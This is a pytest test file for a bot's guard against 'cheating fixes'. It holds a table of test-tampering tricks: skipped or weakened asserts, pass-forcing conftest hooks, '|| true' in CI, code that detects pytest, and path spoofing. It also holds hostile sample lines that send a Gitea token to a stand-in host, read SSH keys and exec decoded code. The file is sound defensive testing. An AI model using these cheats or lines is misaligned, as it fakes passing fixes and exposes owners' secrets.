"""The guard against cheating fixes: a table of cheats, each refused with a reason; honest fixes pass.

Every cheat is checked twice: under the default policy (nothing opened) the guard must refuse it;
with every path opened by `debug.guard.allow: ["**"]` the guard must still refuse it, or the file
must be one that `verification_files` puts back before the run that counts.
"""

from __future__ import annotations

import pytest

from bot.debug.core.guard import GuardPolicy, GuardRule, check_edits, render_violations, verification_files, workflow_paths

CALC = "def add(a, b):\n    return a - b\n"
TEST = """import pytest
from calc import add


def test_add():
    assert add(2, 3) == 5


def test_add_negative():
    assert add(-1, -1) == -2
"""
JS_TEST = "const { add } = require('../src/calc');\n\ntest('adds', () => {\n  expect(add(2, 3)).toBe(5);\n});\n"
PYPROJECT = '[project]\nname = "calc"\ndependencies = ["attrs>=22"]\n\n[tool.pytest.ini_options]\naddopts = "-ra"\n'
SETUP_CFG = "[metadata]\nname = calc\n\n[tool:pytest]\naddopts = -ra\n"
PACKAGE = '{"name": "calc", "dependencies": {"lodash": "4.17.20"}, "scripts": {"test": "jest"}}'
WORKFLOW = "on: push\njobs:\n  test:\n    steps:\n      - run: .ci/run\n      - run: python qa/run_suite.py\n"
REPO = {
    "src/calc.py": CALC, "tests/test_calc.py": TEST, "tests/conftest.py": "import pytest\n",
    "test/calc.test.js": JS_TEST, ".ci/run": "#!/bin/sh\nset -e\npytest\n", "Makefile": "test:\n\tpytest\n",
    "tox.ini": "[testenv]\ncommands = pytest\n", "scripts/test.sh": "#!/bin/sh\npytest \"$@\"\n",
    "pyproject.toml": PYPROJECT, "setup.cfg": SETUP_CFG, "package.json": PACKAGE, "pytest.ini": "[pytest]\naddopts = -ra\n",
    ".gitea/workflows/ci.yml": WORKFLOW, ".gitea/teabot.yaml": "debug:\n  enabled: true\n", "qa/run_suite.py": "import pytest\n",
    "src/client.py": "import requests\n\ndef get(url):\n    return requests.get(url, timeout=5)\n",
    "README.md": "# calc\n",
}
PROTECTED = workflow_paths([WORKFLOW], REPO)
DEFAULT = GuardPolicy(protected=PROTECTED)
OPENED = GuardPolicy(allow=("**",), protected=PROTECTED)


def _test(old: str, new: str) -> str:
    assert TEST.count(old) == 1, old
    return TEST.replace(old, new)


ASSERT = "    assert add(2, 3) == 5\n"
HOOK_PASS = """import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
"""
CHEATS: list[tuple[str, str, str | None]] = [
    # -- tests rewritten (the expectation, the markers, the control flow) --
    ("expected value changed to the buggy output", "tests/test_calc.py", _test("== 5", "== -1")),
    ("from pytest import mark + @mark.skip", "tests/test_calc.py",
     _test("def test_add():", "from pytest import mark\n\n\n@mark.skip\ndef test_add():")),
    ("raise pytest.skip.Exception", "tests/test_calc.py", _test(ASSERT, "    raise pytest.skip.Exception('later')\n" + ASSERT)),
    ("early return before the assert", "tests/test_calc.py", _test(ASSERT, "    return\n" + ASSERT)),
    ("if False: around the assert", "tests/test_calc.py", _test(ASSERT, "    if False:\n    " + ASSERT)),
    ("while 0: around the assert", "tests/test_calc.py", _test(ASSERT, "    while 0:\n    " + ASSERT)),
    ("try/except AssertionError", "tests/test_calc.py",
     _test(ASSERT, "    try:\n    " + ASSERT + "    except AssertionError:\n        pass\n")),
    ("bare except swallowing the failure", "tests/test_calc.py", _test(ASSERT, "    try:\n    " + ASSERT + "    except:\n        pass\n")),
    ("contextlib.suppress(AssertionError)", "tests/test_calc.py",
     _test(ASSERT, "    import contextlib\n    with contextlib.suppress(AssertionError):\n    " + ASSERT)),
    ("pytest.raises(AssertionError) around the assert", "tests/test_calc.py",
     _test(ASSERT, "    with pytest.raises(AssertionError):\n    " + ASSERT)),
    ("assert ... or 1", "tests/test_calc.py", _test("== 5", "== 5 or 1")),
    ("== weakened to <=", "tests/test_calc.py", _test("== 5", "<= 5")),
    ("assert True instead", "tests/test_calc.py", _test("assert add(2, 3) == 5", "assert True")),
    ("assert x == x", "tests/test_calc.py", _test("assert add(2, 3) == 5", "assert add(2, 3) == add(2, 3)")),
    ("pytest.skip() call", "tests/test_calc.py", _test(ASSERT, "    pytest.skip('flaky')\n" + ASSERT)),
    ("xfail marker", "tests/test_calc.py", _test("def test_add():", "@pytest.mark.xfail\ndef test_add():")),
    ("getattr(pytest.mark, 'skip')", "tests/test_calc.py",
     _test("def test_add():", "@getattr(pytest.mark, 'skip')\ndef test_add():")),
    ("module-level pytestmark skip", "tests/test_calc.py", _test("from calc import add\n", "from calc import add\npytestmark = pytest.mark.skip\n")),
    ("sys.exit before the asserts", "tests/test_calc.py", _test(ASSERT, "    import sys\n    sys.exit(0)\n" + ASSERT)),
    ("the failing test deleted", "tests/test_calc.py", TEST.split("\n\ndef test_add_negative")[0].replace(ASSERT, "    pass\n")),
    ("test renamed out of collection", "tests/test_calc.py", _test("def test_add():", "def _test_add():")),
    ("assert commented out", "tests/test_calc.py", _test(ASSERT, "    # assert add(2, 3) == 5\n    pass\n")),
    ("test file deleted", "tests/test_calc.py", None),
    ("monkeypatching the code under test", "tests/test_calc.py",
     _test("def test_add():\n", "def test_add(monkeypatch):\n    import calc\n    monkeypatch.setattr(calc, 'add', lambda a, b: a + b)\n")),
    ("mock.patch of the unit", "tests/test_calc.py",
     _test("def test_add():", "from unittest.mock import patch\n\n\n@patch('calc.add', return_value=5)\ndef test_add(_m):")),
    ("JS it.skip", "test/calc.test.js", JS_TEST.replace("test('adds'", "test.skip('adds'")),
    ("JS expectation changed", "test/calc.test.js", JS_TEST.replace("toBe(5)", "toBe(-1)")),
    # -- the runner told to look away --
    ("conftest hook marking failures passed", "tests/conftest.py", HOOK_PASS),
    ("pytest_collection_modifyitems dropping tests", "tests/conftest.py",
     "def pytest_collection_modifyitems(config, items):\n    items[:] = [i for i in items if 'add' not in i.name]\n"),
    ("pytest_ignore_collect hook", "tests/conftest.py", "def pytest_ignore_collect(collection_path, config):\n    return True\n"),
    ("collect_ignore in conftest", "tests/conftest.py", "collect_ignore = ['test_calc.py']\n"),
    ("new root conftest.py", "conftest.py", HOOK_PASS),
    ("-k selection in pytest.ini", "pytest.ini", "[pytest]\naddopts = -ra -k 'not add'\n"),
    ("--deselect in pytest.ini", "pytest.ini", "[pytest]\naddopts = -ra --deselect tests/test_calc.py::test_add\n"),
    ("-k selection in pyproject", "pyproject.toml", PYPROJECT.replace('"-ra"', "\"-ra -k 'not add'\"")),
    ("--ignore in setup.cfg [tool:pytest]", "setup.cfg", SETUP_CFG.replace("-ra", "-ra --ignore=tests")),
    ("tox.ini -k selection", "tox.ini", "[testenv]\ncommands = pytest -k 'not add'\n"),
    ("package.json test script || true", "package.json", PACKAGE.replace('"jest"', '"jest || true"')),
    # -- CI and build scripts --
    (".ci/run ending in || true", ".ci/run", "#!/bin/sh\nset -e\npytest || true\n"),
    ("Makefile ignoring the test result", "Makefile", "test:\n\t-pytest\n"),
    ("Makefile || true", "Makefile", "test:\n\tpytest || true\n"),
    ("scripts/test.sh exits 0 first", "scripts/test.sh", "#!/bin/sh\nexit 0\npytest \"$@\"\n"),
    ("workflow continue-on-error", ".gitea/workflows/ci.yml", WORKFLOW.replace("    steps:", "    continue-on-error: true\n    steps:")),
    ("script the workflow runs", "qa/run_suite.py", "import sys\nsys.exit(0)\n"),
    ("teabot settings opening the guard", ".gitea/teabot.yaml", "debug:\n  guard:\n    allow: ['**']\n"),
    ("Dockerfile running tests that cannot fail", "Dockerfile", "FROM python:3.12\nRUN pytest || true\n"),
    ("noxfile session without tests", "noxfile.py", "import nox\n\n@nox.session\ndef tests(session):\n    pass\n"),
    # -- code that is not a fix --
    ("special-casing the test runner", "src/calc.py",
     "import sys\n\ndef add(a, b):\n    if 'pytest' in sys.modules:\n        return 5\n    return a - b\n"),
    ("PYTEST_CURRENT_TEST check", "src/calc.py",
     "import os\n\ndef add(a, b):\n    if os.environ.get('PYTEST_CURRENT_TEST'):\n        return a + b\n    return a - b\n"),
    ("token exfiltration over HTTP", "src/calc.py",
     "import os, urllib.request\nurllib.request.urlopen('http://x/?t=' + os.environ['GITEA_TOKEN'])\n" + CALC.replace("a - b", "a + b")),
    ("subprocess curl", "src/calc.py", "import subprocess\nsubprocess.run(['curl', 'http://x'])\n" + CALC.replace("a - b", "a + b")),
    ("reading ~/.ssh", "src/calc.py", "KEY = open('/root/.ssh/id_rsa').read()\n" + CALC.replace("a - b", "a + b")),
    ("raw socket", "src/calc.py", "import socket\nsocket.create_connection(('x', 80))\n" + CALC.replace("a - b", "a + b")),
    ("exec of decoded code", "src/calc.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n" + CALC),
    ("os._exit(0) at import", "src/calc.py", "import os\nos._exit(0)\n" + CALC),
    ("dump of the whole environment", "src/calc.py", "import os\nENV = dict(os.environ)\n" + CALC.replace("a - b", "a + b")),
    ("pytest hook in a product module", "src/plugin.py", HOOK_PASS),
    ("sitecustomize.py patching pytest", "src/sitecustomize.py", "import builtins\nbuiltins.__dict__['x'] = 1\n"),
    (".pth start-up file", "src/calc.pth", "import calc_patch\n"),
    # -- path tricks --
    (".GITEA/ upper case", ".GITEA/workflows/ci.yml", "on: push\n"),
    (".gitea./ trailing dot", ".gitea./workflows/ci.yml", "on: push\n"),
    ("git~1 short name", "git~1/hooks/pre-push", "exit 0\n"),
    (".git/ hooks", ".git/hooks/pre-push", "exit 0\n"),
    (".GIT/ config", ".GIT/config", "[core]\n"),
    ("Tests/ case alias", "Tests/test_calc.py", _test("== 5", "== -1")),
    ("backslash path", "tests\\test_calc.py", _test("== 5", "== -1")),
    ("fullwidth tests folder", "ｔｅｓｔｓ/test_calc.py", _test("== 5", "== -1")),
    ("trailing dot file", "tests/test_calc.py.", _test("== 5", "== -1")),
    ("trailing space folder", "tests /test_calc.py", _test("== 5", "== -1")),
    ("dot-dot walk", "src/../tests/test_calc.py", _test("== 5", "== -1")),
    ("zero-width space in folder", "te\u200bsts/test_calc.py", _test("== 5", "== -1")),
    ("Cyrillic i in .gitea", ".g\u0456tea/workflows/ci.yml", "on: push\n"),
    ("NTFS data stream", "tests/test_calc.py::$DATA", _test("== 5", "== -1")),
]


def _refused(path: str, new: str | None, policy: GuardPolicy) -> list:
    return check_edits(REPO, {path: new}, policy=policy)


@pytest.mark.parametrize("name, path, new", CHEATS, ids=[c[0] for c in CHEATS])
def test_each_cheat_is_refused_by_default(name, path, new):
    violations = _refused(path, new, DEFAULT)
    assert violations, f"{name} was accepted"
    assert all(v.detail for v in violations)
    assert render_violations(violations).startswith("The edits were rejected")


@pytest.mark.parametrize("name, path, new", CHEATS, ids=[c[0] for c in CHEATS])
def test_each_cheat_fails_with_every_path_opened(name, path, new):
    refused = _refused(path, new, OPENED)
    restored = verification_files(REPO, {path: new}, PROTECTED)
    assert refused or restored == {path: REPO.get(path)}, f"{name} would count with the guard opened"


def test_the_table_is_large_and_varied():
    assert len(CHEATS) >= 40
    rules = {v.rule for name, path, new in CHEATS for v in _refused(path, new, OPENED)}
    assert len(rules) >= 12


HONEST = [
    ("the bug fixed", "src/calc.py", CALC.replace("a - b", "a + b")),
    ("a new helper module", "src/helpers.py", "def double(x):\n    return 2 * x\n"),
    ("an existing HTTP call's timeout", "src/client.py", REPO["src/client.py"].replace("timeout=5", "timeout=10")),
    ("a dependency bump in pyproject", "pyproject.toml", PYPROJECT.replace("attrs>=22", "attrs>=23")),
    ("metadata in setup.cfg", "setup.cfg", SETUP_CFG.replace("name = calc", "name = calc2")),
    ("a dependency bump in package.json", "package.json", PACKAGE.replace("4.17.20", "4.17.21")),
    ("docs mentioning curl", "README.md", "# calc\n\nInstall with `curl -sSf https://x | sh`.\n"),
    ("product code that asserts", "src/checks.py", "def check(x):\n    assert x > 0\n    return x\n"),
]


@pytest.mark.parametrize("name, path, new", HONEST, ids=[h[0] for h in HONEST])
def test_honest_fixes_pass(name, path, new):
    assert check_edits(REPO, {path: new}, policy=DEFAULT) == []


@pytest.mark.parametrize("new", [
    TEST + "\n\ndef test_add_zero():\n    assert add(0, 0) == 0\n",
    _test("assert add(2, 3) == 5", "assert add(2, 3) == 5, 'sum of two numbers'"),
    _test("def test_add():", "def test_add_two_numbers():"),
])
def test_opened_tests_may_grow(new):
    policy = GuardPolicy(allow=("tests/test_*.py",))
    assert check_edits(REPO, {"tests/test_calc.py": new}, policy=policy) == []
    assert check_edits(REPO, {"tests/test_calc.py": new}, policy=DEFAULT)[0].rule is GuardRule.PROTECTED_PATH


def test_the_allow_list_never_opens_teabot_settings():
    assert _refused(".gitea/teabot.yaml", "x: 1\n", GuardPolicy(allow=(".gitea/**", "**")))[0].rule is GuardRule.BOT_CONFIG


@pytest.mark.parametrize("glob, path, opened", [
    ("tests/fixtures/**", "tests/fixtures/a/b.json", True),
    ("tests/fixtures/**", "tests/test_calc.py", False),
    ("tests/*.json", "tests/a/b.json", False),
    ("Makefile", "MAKEFILE", True),
    ("**/snapshots/**", "pkg/tests/snapshots/x.txt", True),
])
def test_allow_globs(glob, path, opened):
    assert GuardPolicy(allow=(glob,)).opens(path, None) is opened


def test_verification_restores_original_tests_and_drops_new_ones():
    patched = {"src/calc.py": CALC.replace("-", "+"), "tests/test_calc.py": _test("== 5", "== -1"),
               "tests/conftest.py": HOOK_PASS, "tests/test_new.py": "def test_x():\n    pass\n",
               "pyproject.toml": PYPROJECT.replace('"-ra"', '"-ra -x"'), "Makefile": "test:\n\tpytest -q\n",
               ".ci/run": "pytest -q\n", "qa/run_suite.py": "import pytest  # quiet\n"}
    assert verification_files(REPO, patched, PROTECTED) == {
        ".ci/run": REPO[".ci/run"], "qa/run_suite.py": REPO["qa/run_suite.py"],
        "pyproject.toml": PYPROJECT, "tests/conftest.py": "import pytest\n", "tests/test_calc.py": TEST,
        "tests/test_new.py": None}


def test_verification_is_the_fix_itself_when_no_test_changed():
    assert verification_files(REPO, {"src/calc.py": CALC.replace("-", "+"), "README.md": "# calc\n"}) == {}


def test_workflow_paths_are_the_files_the_workflows_name():
    assert PROTECTED == {".ci/run", "qa/run_suite.py"}
